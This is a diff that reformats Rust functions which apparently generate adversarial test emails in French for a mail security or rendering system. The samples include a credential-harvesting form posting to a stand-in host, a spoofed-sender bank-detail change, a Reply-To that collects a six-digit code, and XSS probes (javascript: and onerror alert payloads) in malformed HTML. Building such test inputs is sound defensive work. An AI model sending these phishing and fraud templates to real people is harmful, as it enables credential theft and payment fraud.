@@ -59,10 +59,7 @@ fn cover(o: &mut Odds) -> Vec<u8> {
 fn form(o: &mut Odds) -> Vec<u8> {
     let body = "<form action=\"https://fuite.example/vol\" method=post target=_top><p>Votre boîte est pleine. Confirmez votre identité :</p><input name=login placeholder=\"Adresse\"><input type=password name=pw autocomplete=current-password><button formaction=\"javascript:alert(1)\">Valider</button><input type=image src=https://fuite.example/b.png><textarea name=t></textarea><select><option>Oui</option></select></form>";
     let from = "Support Messagerie <support@pli-verification.example>";
-    o.html(
-        &o.head_from(from, "Action requise : votre boite est pleine"),
-        body,
-    )
+    o.html(&o.head_from(from, "Action requise : votre boite est pleine"), body)
 }
 
 fn head_tags(o: &mut Odds) -> Vec<u8> {
@@ -87,24 +84,19 @@ fn tracking(o: &mut Odds) -> Vec<u8> {
 
 fn hidden_name(o: &mut Odds) -> Vec<u8> {
     let me = first();
-    let from = format!(
-        "\"Dr Claire Martin <{}>\" <contact@cabinet-martin.courriel.example>",
-        me.address
-    );
-    o.plain(&o.head_from(&from, "Coordonnees bancaires du cabinet"), "Bonjour,\n\nMerci d’utiliser désormais ce nouveau RIB pour les rétrocessions.\n\nDr Claire Martin")
+    let from = format!("\"Dr Claire Martin <{}>\" <contact@cabinet-martin.courriel.example>", me.address);
+    o.plain(
+        &o.head_from(&from, "Coordonnees bancaires du cabinet"),
+        "Bonjour,\n\nMerci d’utiliser désormais ce nouveau RIB pour les rétrocessions.\n\nDr Claire Martin",
+    )
 }
 
 fn hidden_name_encoded(o: &mut Odds) -> Vec<u8> {
-    let name = mime::words(
-        "Assistance Pli – assistance@pli.mssante.example",
-        Charset::Utf8,
-        false,
-    );
+    let name = mime::words("Assistance Pli – assistance@pli.mssante.example", Charset::Utf8, false);
     let from = format!("{name}\r\n <noreply@pli-securite.example>");
-    let head = o.head_from(&from, "Votre code a expire").replace(
-        "MIME-Version",
-        "Reply-To: Assistance <collecte@fuite.example>\r\nMIME-Version",
-    );
+    let head = o
+        .head_from(&from, "Votre code a expire")
+        .replace("MIME-Version", "Reply-To: Assistance <collecte@fuite.example>\r\nMIME-Version");
     o.plain(&head, "Votre accès sera suspendu dans 24 heures.\n\nRépondez à ce message avec votre code à six chiffres.\n\nhttps://pli-securite.example/connexion")
 }
 
@@ -129,10 +121,7 @@ fn override_name(o: &mut Odds) -> Vec<u8> {
 
 fn unclosed(o: &mut Odds) -> Vec<u8> {
     let text = o.say("<p>Suite du dossier {Pn}<b>très <i>important</b> mal</i> imbriqué <a href='https://www.lettre-sante.example/?q=\"><img src=x onerror=alert(1)>'>lien</a><table><tr><td>cellule<td>autre<p>dans le tableau<!-- commentaire jamais fermé <p>perdu</p>");
-    let body = format!(
-        "</div></div></body></html>{text}{}",
-        "<div><blockquote>".repeat(400)
-    );
+    let body = format!("</div></div></body></html>{text}{}", "<div><blockquote>".repeat(400));
     o.html(&o.head("Suite du dossier (balises)"), &body)
 }
 
@@ -144,10 +133,7 @@ fn mutation(o: &mut Odds) -> Vec<u8> {
 fn lottery(o: &mut Odds) -> Vec<u8> {
     let body = "<center><font color=red size=7><b>FELICITATIONS !!!</b></font><br><font size=5>Vous avez été sélectionné(e) pour recevoir un <u>tensiomètre connecté</u></font><br><br><a href=\"http://cadeau.example/?id=1\"><img src=\"http://cadeau.example/banniere.gif\" border=0 alt=\"CLIQUEZ ICI\"></a><br><font color=white size=1>ostéoporose tramadol réunion lundi facture planning</font></center>";
     o.html(
-        &o.head_from(
-            "\"Service Cadeaux\" <gagnant@cadeau.example>",
-            "=?utf-8?B?8J+OgSBWb3VzIGF2ZXogZ2FnbsOpICE=?=",
-        ),
+        &o.head_from("\"Service Cadeaux\" <gagnant@cadeau.example>", "=?utf-8?B?8J+OgSBWb3VzIGF2ZXogZ2FnbsOpICE=?="),
         body,
     )
 }
@@ -166,12 +152,7 @@ fn invoice(o: &mut Odds) -> Vec<u8> {
         None,
         b"PK\x03\x04 a sample, not a workbook",
     );
-    let mut out = o
-        .head_from(
-            "Recouvrement <compta@recouvrement-express.example>",
-            subject,
-        )
-        .into_bytes();
+    let mut out = o.head_from("Recouvrement <compta@recouvrement-express.example>", subject).into_bytes();
     Part::multi("mixed", o.salt, vec![text, file]).write(&mut out);
     out
 }
